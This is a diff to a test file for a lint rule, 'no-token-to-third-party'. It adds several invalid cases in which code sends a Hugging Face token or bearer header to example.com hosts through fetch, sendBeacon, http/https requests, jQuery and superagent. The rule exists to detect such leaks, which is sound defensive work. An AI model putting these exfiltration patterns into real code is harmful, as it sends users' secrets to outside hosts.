@@ -42,6 +42,13 @@ ruleTester.run("no-token-to-third-party", rule, {
     },
   ],
   invalid: [
+    { code: `navigator.sendBeacon("https://collect.example.com/t", process.env.HF_TOKEN);`, errors: [sent("navigator.sendBeacon", "collect.example.com")] },
+    { code: `https.request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("https.request", "api.example.com")] },
+    { code: `http.get("http://api.example.com/v1", { headers: { authorization: process.env.HF_TOKEN } });`, errors: [sent("http.get", "api.example.com")] },
+    { code: `const request = new Request("https://api.example.com/v1", { headers: { Authorization: ${BEARER} } });`, errors: [sent("new Request", "api.example.com")] },
+    { code: `fetch("https://api.example.com/v1", { method: "POST", body: process.env.HF_TOKEN });`, errors: [sent("fetch", "api.example.com")] },
+    { code: `$.ajax({ url: "https://api.example.com/v1", headers: { Authorization: ${BEARER} } });`, errors: [sent("$.ajax", "api.example.com")] },
+    { code: "superagent.get(`https://api.example.com/v1?token=${process.env.HF_TOKEN}`);", errors: [sent("superagent.get", "api.example.com")] },
     {
       name: "an axios instance: every request sends the header to its baseURL",
       code: `const api = axios.create({ baseURL: "https://api.example.com", headers: { Authorization: ${BEARER} } });`,
